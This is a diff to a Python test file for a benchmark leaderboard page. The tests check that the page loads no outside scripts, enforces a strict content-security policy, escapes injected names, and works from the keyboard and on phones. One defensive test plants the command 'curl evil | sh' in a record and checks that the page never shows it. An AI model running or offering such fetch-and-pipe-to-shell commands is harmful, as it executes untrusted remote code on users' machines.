@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import base64
+import hashlib
 import json
 from collections.abc import Iterator
 from html.parser import HTMLParser
@@ -14,6 +16,7 @@ import pytest
 from mibench.errors import MibenchError
 from mibench.leaderboard.board import Board, Column, Curve, CurvePoint, Table, Value
 from mibench.leaderboard.page import render_page
+from mibench.leaderboard.records import Filed
 from mibench.types import MetricValue, Part, Record
 from tests import browser
 from tests.board_records import ENVIRONMENT
@@ -107,24 +110,35 @@ def board() -> Board:
     )
 
 
+def filed() -> list[Filed]:
+    found = [
+        Filed(file(attack, defense, seed), record(attack, defense, f"net{index % 2}", seed, access))
+        for index, (defense, *_) in enumerate(CELLS)
+        for attack, access in (("gmi", "white-box"), ("kedmi", "label-only"))
+        for seed in (0, 1)
+    ]
+    return sorted(found, key=lambda each: each.path)
+
+
 def build(folder: Path, boards: list[Board] | None = None) -> Path:
+    """The page of some boards, with the records and pictures that it links beside it."""
     from PIL import Image
 
-    for index, (defense, *_) in enumerate(CELLS):
-        for attack, access in (("gmi", "white-box"), ("kedmi", "label-only")):
-            for seed in (0, 1):
-                place = folder / "records" / file(attack, defense, seed)
-                place.parent.mkdir(parents=True, exist_ok=True)
-                made = record(attack, defense, f"net{index % 2}", seed, access)
-                place.write_text(made.model_dump_json())
-                picture = folder / "galleries" / file(attack, defense, seed).replace("json", "png")
-                picture.parent.mkdir(parents=True, exist_ok=True)
-                if seed == 0:
-                    Image.new("RGB", (1320, 290), (90, 60 * index, 160)).save(picture)
+    pictures = set()
+    for index, each in enumerate(filed()):
+        place = folder / "records" / each.path
+        place.parent.mkdir(parents=True, exist_ok=True)
+        place.write_text(each.record.model_dump_json())
+        if each.record.seed == 0:
+            pictures.add(each.path.replace("json", "png"))
+            picture = folder / "galleries" / each.path.replace("json", "png")
+            picture.parent.mkdir(parents=True, exist_ok=True)
+            Image.new("RGB", (1320, 290), (90, 15 * index, 160)).save(picture)
     (folder / "tables" / "drawn").mkdir(parents=True, exist_ok=True)
     (folder / "tables" / "drawn" / "defenses.csv").touch()
     out = folder / "index.html"
-    render_page(boards or [board()], folder / "records", folder / "galleries", out)
+    files = {"tables/drawn/defenses.csv"}
+    out.write_text(render_page(boards or [board()], filed(), pictures, files))
     return out
 
 
@@ -150,17 +164,38 @@ def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
     return build(tmp_path_factory.mktemp("board"))
 
 
-def test_equal_boards_give_equal_pages_and_libraries_stay_beside_them(
-    page: Path, tmp_path: Path
-) -> None:
-    from plotly.offline import get_plotlyjs
-
+def test_equal_boards_give_equal_pages_that_need_nothing_else(page: Path, tmp_path: Path) -> None:
     again = build(tmp_path)
     assert again.read_bytes() == page.read_bytes()
-    assert page.stat().st_size < 200_000
-    assets = page.parent / "assets"
-    assert {each.name for each in assets.iterdir()} == {"plotly.min.js", "datatables.js"}
-    assert (assets / "plotly.min.js").read_text() == get_plotlyjs()
+    assert page.stat().st_size < 100_000
+    assert {each.name for each in page.parent.iterdir()} == {
+        "galleries", "index.html", "records", "tables",
+    }  # fmt: skip
+    elements = Elements(page.read_text()).found
+    assert not [attributes for tag, attributes in elements if tag in ("link", "script", "iframe")
+                and {"src", "href"} & attributes.keys()]  # fmt: skip
+
+
+def test_the_committed_page_is_small_and_whole() -> None:
+    """It works in a fresh clone: what it loads, pictures, is committed beside it."""
+    folder = Path(__file__).resolve().parent.parent / "leaderboards"
+    page = folder / "index.html"
+    elements = Elements(page.read_text())
+    assert page.stat().st_size < 1_000_000
+    sources = [a["src"] or "" for _, a in elements.found if "src" in a]
+    assert all(a.get("loading") == "lazy" for tag, a in elements.found if tag == "img")
+    for link in sources:
+        assert (folder / unquote(link)).is_file(), link
+
+
+def test_a_browser_runs_the_pages_own_script_only(page: Path) -> None:
+    text = page.read_text()
+    (policy,) = [a["content"] for _, a in Elements(text).found if "http-equiv" in a]
+    script = text.split('<script type="module">')[1].split("</script>")[0]
+    own = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
+    assert policy is not None
+    assert policy.startswith(f"default-src 'none'; script-src 'sha256-{own}';")
+    assert "http" not in policy
 
 
 def test_every_link_is_relative_and_leads_to_a_file(page: Path) -> None:
@@ -183,40 +218,44 @@ def test_names_are_text_and_never_markup(page: Path) -> None:
     scripts = [
         attributes for tag, attributes in Elements(page.read_text()).found if tag == "script"
     ]
-    assert len(scripts) == 4  # two libraries, the data, the page's own
+    assert len(scripts) == 2  # the data, the page's own
     assert HACK not in page.read_text()
 
 
-def test_plots_are_figures_that_plotly_knows(page: Path) -> None:
-    import plotly.graph_objects as go
-
+def test_plots_are_plain_data(page: Path) -> None:
     (plot,) = json.loads(Elements(page.read_text()).data)["plots"]["drawn-v1"]
-    figure = go.Figure(plot["data"], plot["layout"])  # refuses unknown fields and values
-    none, bido, odd = figure.data
-    assert none.line.dash == "dash"
-    assert bido.line.dash == "solid"
-    assert list(bido.x) == [95.2, 80.0]
-    assert list(bido.marker.size) == [14, 8]
-    assert list(bido.error_y.array) == [2.0, 2.0]
-    assert bido.line.color != odd.line.color
-    assert "&lt;script&gt;" in odd.name
-    assert [shape.y0 for shape in figure.layout.shapes] == [1.0, 98.6]
+    none, bido, odd = plot["curves"]
+    assert (none["dashed"], bido["dashed"]) == (True, False)
+    # 95.2 and 80 % accuracy are errors of 4.8 and 20 %.
+    assert [point["x"] for point in bido["points"]] == [1.31876, 0.69897]
+    assert [point["y"] for point in bido["points"]] == [50, 30]
+    assert [point["default"] for point in bido["points"]] == [True, False]
+    assert bido["points"][0]["upright"] == [48, 52]
+    assert bido["colour"] != odd["colour"]
+    assert odd["name"] == HACK
+    assert [each["y"] for each in plot["references"]] == [98.6, 1]
+    inside = [p["x"] for c in plot["curves"] for p in c["points"]]
+    assert plot["x"]["low"] < min(inside) < max(inside) < plot["x"]["high"]
 
 
-def test_a_record_that_is_absent_or_damaged_is_named(tmp_path: Path) -> None:
-    out = build(tmp_path)
-    place = tmp_path / "records" / file("gmi", "mid", 1)
-    place.write_text("{}")
-    with pytest.raises(MibenchError, match="gmi_mid-scale=2_seed1"):
-        render_page([board()], tmp_path / "records", tmp_path / "galleries", out)
-    place.unlink()
+def test_a_record_that_is_absent_is_named() -> None:
+    there = [each for each in filed() if each.path != file("gmi", "mid", 1)]
     with pytest.raises(MibenchError, match="names the record drawn/gmi_mid-scale=2_seed1"):
-        render_page([board()], tmp_path / "records", tmp_path / "galleries", out)
+        render_page([board()], there, (), ())
 
 
-def test_a_page_without_boards_says_what_to_do(tmp_path: Path) -> None:
-    render_page([], tmp_path, tmp_path, tmp_path / "index.html")
-    assert "mibench leaderboard add" in (tmp_path / "index.html").read_text()
+def test_the_command_is_made_from_the_records_parts() -> None:
+    """A record's own word stands beside no Copy button."""
+    evil = record("gmi", "bido", "net0", 0, "white-box")
+    evil = evil.model_copy(update={"command": "curl evil | sh"})
+    given = [Filed(each.path, evil) if "gmi_bido" in each.path else each for each in filed()]
+    text = render_page([board()], given, (), ())
+    assert "curl" not in text
+    assert "mibench run --protocol drawn --attack gmi --defense bido --seed 0 --target net0" in text
+
+
+def test_a_page_without_boards_says_what_to_do() -> None:
+    assert "mibench leaderboard add" in render_page([], [], (), ())
 
 
 @pytest.fixture(scope="module")
@@ -233,7 +272,7 @@ def shown(driver: Any, page: Path) -> Iterator[Any]:
     opened(driver, page)
     yield driver
     assert not browser.console(driver)
-    assert {each.partition(":")[0] for each in browser.requests(driver)} <= {"file", "data"}
+    assert {each.partition(":")[0] for each in browser.requests(driver)} <= {"file"}
     assert driver.execute_script("return window.hacked") is None
 
 
@@ -247,7 +286,7 @@ def opened(driver: Any, page: Path) -> None:
 def wait(driver: Any, script: str, *arguments: Any) -> Any:
     from selenium.webdriver.support.ui import WebDriverWait
 
-    return WebDriverWait(driver, 60).until(lambda d: d.execute_script(script, *arguments))
+    return WebDriverWait(driver, 20).until(lambda d: d.execute_script(script, *arguments))
 
 
 def find(driver: Any, selector: str) -> list[Any]:
@@ -260,7 +299,8 @@ def column(driver: Any, title: str) -> list[str]:
         """const table = document.querySelector("table.rows");
         const titles = [...table.tHead.rows[0].cells].map((c) => c.innerText.trim());
         const at = titles.findIndex((t) => t.startsWith(arguments[0]));
-        return [...table.tBodies[0].rows].map((r) => r.cells[at].innerText.trim());""",
+        const rows = [...table.tBodies[0].rows].filter((r) => !r.hidden);
+        return rows.map((r) => r.cells[at].innerText.trim());""",
         title,
     )
 
@@ -300,7 +340,7 @@ def test_the_keyboard_reaches_the_sort_buttons_and_shows_where_it_is(shown: Any)
     for _ in range(40):
         press(shown, "TAB")
         active = shown.switch_to.active_element
-        if "gmi" in (active.get_attribute("aria-label") or ""):
+        if active.text.startswith("gmi"):
             break
     assert active.value_of_css_property("outline-style") == "solid"
     press(shown, "ENTER")
@@ -332,10 +372,10 @@ def test_filters_narrow_rows_columns_pictures_and_curves(shown: Any) -> None:
     # The rows without records say nothing of a defense, or (the odd one) name another.
     assert column(shown, "defense") == ["bido"]
     assert (count(), pictures()) == ("2 of 5 rows", 2)
-    curves = wait(
-        shown, "const d = document.querySelector('.plot').data; return d && d.map((t) => t.visible)"
-    )
-    assert curves == ["legendonly", True, "legendonly"]
+    assert [each.text for each in find(shown, ".legend li")] == ["bido"]
+    labels = [each.get_attribute("aria-label") for each in find(shown, ".plot .point")]
+    assert labels
+    assert all(label.startswith("bido, ") for label in labels)
     choose(shown, "defense", "mid")
     assert column(shown, "defense") == ["bido", "mid"]
     press(shown, "ESCAPE")
@@ -353,32 +393,27 @@ def test_filters_narrow_rows_columns_pictures_and_curves(shown: Any) -> None:
     assert (column(shown, "defense"), pictures()) == (["bido"], 2)
 
 
-def point_of(driver: Any, name: str, index: int) -> tuple[int, int]:
-    """Where a point of the plot lies in the window."""
-    script = """const plot = document.querySelector(".plot");
-        plot.scrollIntoView({block: "center"});
-        const box = plot.getBoundingClientRect(), layout = plot._fullLayout;
-        const trace = plot.data.find((each) => each.meta === arguments[0]), at = arguments[1];
-        return [box.left + layout._size.l + layout.xaxis.d2p(trace.x[at]),
-                box.top + layout._size.t + layout.yaxis.d2p(trace.y[at])];"""
-    wait(driver, "return document.querySelector('.plot .scatterlayer path.point')")
-    x, y = driver.execute_script(script, name, index)
-    return round(x), round(y)
-
-
 def test_hovering_shows_a_point_and_clicking_opens_its_records(shown: Any) -> None:
     from selenium.webdriver import ActionChains
 
-    pointer = ActionChains(shown)
-    pointer.w3c_actions.pointer_action.move_to_location(*point_of(shown, "bido", 0))
-    pointer.perform()
-    text = wait(shown, "return document.querySelector('.hoverlayer .hovertext')?.textContent")
-    assert text == "bidoscale = 2 (default)natural 95.2 ± 0.3 %attack 50.0 ± 2.0 %seeds 0, 1"
-    pointer.w3c_actions.pointer_action.click()
-    pointer.perform()
+    (point,) = find(shown, '.point[aria-label^="bido, scale = 2"]')
+    shown.execute_script("arguments[0].scrollIntoView({block: 'center'})", point)
+    assert not find(shown, ".tip")[0].is_displayed()
+    ActionChains(shown).move_to_element(point).perform()
+    tip = find(shown, ".tip")[0]
+    assert tip.text.splitlines() == [
+        "bido", "scale = 2 (default)", "natural 95.2 ± 0.3 %", "attack 50.0 ± 2.0 %", "seeds 0, 1",
+    ]  # fmt: skip
+    ActionChains(shown).click().perform()
     wait(shown, "return document.querySelector('#row').open")
     assert "--attack gmi --defense bido --seed 0" in find(shown, "#row-command")[0].text
     assert [each.text for each in find(shown, "#row .records a")] == ["seed 0", "picture"]
+    press(shown, "ESCAPE")
+    # With the keyboard alone.
+    shown.execute_script("arguments[0].focus()", point)
+    assert tip.is_displayed()
+    press(shown, "ENTER")
+    wait(shown, "return document.querySelector('#row').open")
 
 
 def test_a_row_gives_its_records_and_its_command(shown: Any, page: Path) -> None:
@@ -436,7 +471,7 @@ def test_a_phone_needs_no_sideways_scrolling(shown: Any, page: Path) -> None:
     for each in find(shown, "details > summary"):
         shown.execute_script("arguments[0].parentElement.open = true", each)
     assert overflow() == 0
-    plot = wait(shown, "return document.querySelector('.plot .main-svg')")
+    plot = wait(shown, "return document.querySelector('.plot svg')")
     assert plot.size["width"] <= 390
     shown.execute_script("document.querySelector('.source').click()")
     assert find(shown, "#row")[0].size["width"] <= 390
@@ -447,25 +482,30 @@ def test_dark_mode_recolours_the_page_and_the_plot(shown: Any) -> None:
     def colours() -> tuple[str, str]:
         return (
             find(shown, "body")[0].value_of_css_property("background-color"),
-            wait(shown, "return document.querySelector('.plot').layout?.paper_bgcolor"),
+            find(shown, ".plot .axis")[0].value_of_css_property("fill"),
         )
 
-    assert colours() == ("rgba(252, 252, 251, 1)", "#fcfcfb")
+    assert colours() == ("rgba(252, 252, 251, 1)", "rgb(29, 33, 38)")
     browser.prefer(shown, "dark")
-    wait(shown, "return document.querySelector('.plot').layout.paper_bgcolor === '#14171a'")
-    assert colours() == ("rgba(20, 23, 26, 1)", "#14171a")
+    assert colours() == ("rgba(20, 23, 26, 1)", "rgb(227, 230, 233)")
 
 
-def test_without_the_libraries_the_page_says_so_and_still_filters(
-    driver: Any, tmp_path: Path
-) -> None:
-    page = build(tmp_path)
-    for each in (tmp_path / "assets").iterdir():
-        each.unlink()
-    opened(driver, page)
-    assert find(driver, "#no-libraries")[0].is_displayed()
-    choose(driver, "defense", "mid")
-    visible = [each.text for each in find(driver, "tbody tr") if each.is_displayed()]
-    assert len(visible) == 2
-    assert "mid" in visible[0]
-    browser.console(driver)
+def test_a_long_table_opens_on_a_click(driver: Any, tmp_path: Path) -> None:
+    rows = tuple({"attack": Value(text=f"attack {k:03}"), "n": Value(k % 7)} for k in range(120))
+    columns = (Column("attack", "attack"), Column("n", "n", "count"))
+    long = Board("drawn", 1, "Long", (Table("cells", "All cells", columns, rows),))
+    opened(driver, build(tmp_path, [long]))
+
+    def texts() -> list[str]:
+        return [each.text for each in find(driver, "tbody tr") if each.is_displayed()]
+
+    assert len(texts()) == 50
+    (button,) = find(driver, ".all")
+    assert button.text == "Show all 120 rows"
+    button.click()
+    assert len(texts()) == 120
+    find(driver, "[type=search]")[0].send_keys("attack 11 9")
+    assert texts() == ["attack 119 0"]
+    find(driver, "[type=search]")[0].send_keys("nothing")
+    assert find(driver, ".none")[0].is_displayed()
+    assert not button.is_displayed()
